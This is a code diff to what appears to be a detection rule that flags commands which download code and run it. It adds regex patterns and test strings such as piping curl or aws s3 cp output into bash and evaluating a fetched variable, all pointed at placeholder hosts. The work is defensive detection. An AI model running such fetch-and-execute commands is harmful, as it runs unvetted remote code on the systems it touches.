@@ -17,6 +17,12 @@ const ONLY_CHECKED = /^[ \t]+-n(?![\w-])/;
 /** What is downloaded is left out, as where people speak of it: "curl | bash", "curl ... | sh". */
 const NAMED = /^\w+\s(?:[.*\s"'`]|\xe2\x80\xa6)*\|/;
 
+/** The variable that is run is the one that took what was downloaded. */
+function runsVariable({ text, after }: Candidate): boolean {
+  const name = /\w+(?==)/.exec(text)?.[0];
+  return name !== undefined && /^\{?(\w+)/.exec(after)?.[1] === name;
+}
+
 function isRun(candidate: Candidate): boolean {
   const { text, after } = candidate;
   return !NAMED.test(text) && !ONLY_CHECKED.test(after) && endsThere(candidate) && saysWhat(text);
@@ -38,13 +44,19 @@ export const rule: Rule = {
   match: [
     // curl ... | [sudo] sh
     {
-      re: /(?<![\w.-])(?:curl(?:\.exe)?|wget|fetch|aria2c|axel|lwp-download|w3m|http|https|xh|openssl\ss_client)\s[^\n]*\|&?\s*(?:(?:\/usr\/bin\/)?(?:sudo|doas|env|nohup|exec|command|time|stdbuf|busybox|xargs)\s+(?:-{1,2}[\w={}-]+\s+|-[ugI]\s+\S+\s+|\w+=\S*\s+)*)*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|tc|c|fi)?sh|source)(?![\w-])/,
+      re: /(?<![\w.-])(?:curl(?:\.exe)?|wget|fetch|aria2c|axel|lwp-download|w3m|http|https|xh|openssl\ss_client)\s[^\n]*\|&?\s*(?:[({]\s*)?(?:(?:\/usr\/bin\/)?(?:sudo|doas|env|nohup|exec|command|time|stdbuf|busybox|xargs)\s+(?:-{1,2}[\w={}-]+\s+|-[ugI]\s+\S+\s+|\w+=\S*\s+)*)*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|tc|c|fi)?sh|source)(?![\w-])/,
       window: 768,
+      accept: isRun,
+    },
+    // aws s3 cp s3://... - | sh
+    {
+      re: /(?<![\w.-])(?:aws\ss3\scp|(?:gsutil|rclone)\scat)\s[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh(?![\w-])/,
+      window: 300,
       accept: isRun,
     },
     // curl ... | MODE=x sh, | timeout 30 sh, | docker exec -i web sh: with a setting or a limit, of a container or another user
     {
-      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*\|\s*(?:(?:sudo\s+)?(?:timeout|nice|setsid|su|chroot|ssh|(?:docker|kubectl)\sexec|\w+=\S*)\s+(?:[\w.@/:="-]+\s+)*(?:ba|z|da)?sh|"?\$\{?SHELL)(?![\w/-])/,
+      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*(?:\|\s*(?:(?:sudo\s+)?(?:timeout|nice|setsid|su|chroot|ssh|(?:docker|kubectl)\sexec|\w+=\S*)\s+(?:[\w.@/:="-]+\s+)*(?:ba|z|da)?sh|"?\$(?:\{?SHELL|0))|(?:>|\|\s*tee)\s?>\((?:ba|z)?sh)(?![\w/-])/,
       window: 768,
       accept: isRun,
     },
@@ -52,13 +64,23 @@ export const rule: Rule = {
     {
       re: /(?<![\w.-])(?:curl(?:\.exe)?|wget|fetch|aria2c)\s[^\n]*\|&?\s*(?:sudo\s+(?:-\w+\s+)*)?(?:\/[\w./-]*\/)?(?:env\s+)?(?:(?:python[\d.]*|perl|ruby|node|php|lua|osascript|pwsh|powershell|Rscript|tclsh)(?:\s+-|\s*)|(?:deno|bun)(?:\s+run)?\s+-)(?=["'`;&).\s]|$)/,
       window: 768,
-      accept: (candidate) => runsWhatComes(candidate) && endsThere(candidate) && saysWhat(candidate.text),
+      accept: (candidate) => {
+        // The name of a program may go on with its version: python3.11.
+        const named = { ...candidate, after: candidate.after.replace(/^\.\d+/, '') };
+        return runsWhatComes(named) && endsThere(named) && saysWhat(candidate.text);
+      },
     },
     // sh -c "$(curl ...)", bash <(curl ...), eval "$(wget ...)", . <(curl ...)
     {
       re: /(?<![\w.-])(?:(?:ba|z|k|da)?sh(?:\s+-\w+)*|eval|source|\.|exec|python[\d.]*\s+-c|sudo\s+(?:ba)?sh(?:\s+-c)?)\s+["']?(?:\$\(|`|(?:<\s)?<\()\s*(?:sudo\s+)?(?:curl|wget|fetch)\s/,
       window: 160,
       accept: saysWhatInside,
+    },
+    // x=$(curl ...); eval "$x"
+    {
+      re: /(?<!\w)\w+=["']?(?:\$\(|`)\s*(?:curl|wget)\s[^\n]*(?:;|&&|\n)\s*(?:eval|(?:ba|z)?sh\s+-c)\s+["']?\$/,
+      window: 400,
+      accept: runsVariable,
     },
     // curl -o x ...; sh x
     {
@@ -102,6 +124,7 @@ export const rule: Rule = {
       'Invoke-WebRequest https://files.invalid/p.ps1 | Invoke-Expression',
       'iwr https://files.invalid/p.ps1 | Select-Object -ExpandProperty Content | iex',
       'curl -fsSL https://files.invalid/install.sh | sudo -u root bash',
+      'aws s3 cp s3://bucket.invalid/x.sh - | bash',
       'curl -s https://files.invalid/install.sh |& xargs -I{} bash -c {}',
       'bash < <(curl -s https://files.invalid/x)',
       'wget -qO- https://files.invalid/install.R | /usr/bin/env Rscript -',
@@ -111,6 +134,12 @@ export const rule: Rule = {
       'curl -s https://files.invalid/x | docker exec -i web bash',
       'curl -s https://files.invalid/x | su app -c bash',
       'curl -s https://files.invalid/x | $SHELL',
+      'curl -s https://files.invalid/x > >(bash)',
+      'curl -s https://files.invalid/x | (bash)',
+      'curl -s https://files.invalid/x | tee >(bash)',
+      'x=$(curl -s https://files.invalid/x); eval "$x"',
+      'wget -qO- https://files.invalid/x.py | python3.11 -',
+      'curl -s https://files.invalid/x | { sh; }',
     ],
     silent: [
       'bash <(curl -s {{url}})',
@@ -121,6 +150,9 @@ export const rule: Rule = {
       'curl -s https://files.invalid/x.ts | deno fmt -',
       'iwr https://api.example.com/v1 | Select-Object -ExpandProperty Content',
       'curl https://api.example.com/v1 | jq .',
+      'tag=$(curl -s https://api.example.com/v1); sh -c "$step"',
+      'curl -s https://files.invalid/x > >(tee x.log)',
+      'aws s3 cp s3://bucket.invalid/x.sh . && echo done',
       'wget https://files.invalid/x.tar.gz',
       'curl and divergence',
       'Avoid `curl | bash`, also as `curl ... | sh`: you never know what you run.',
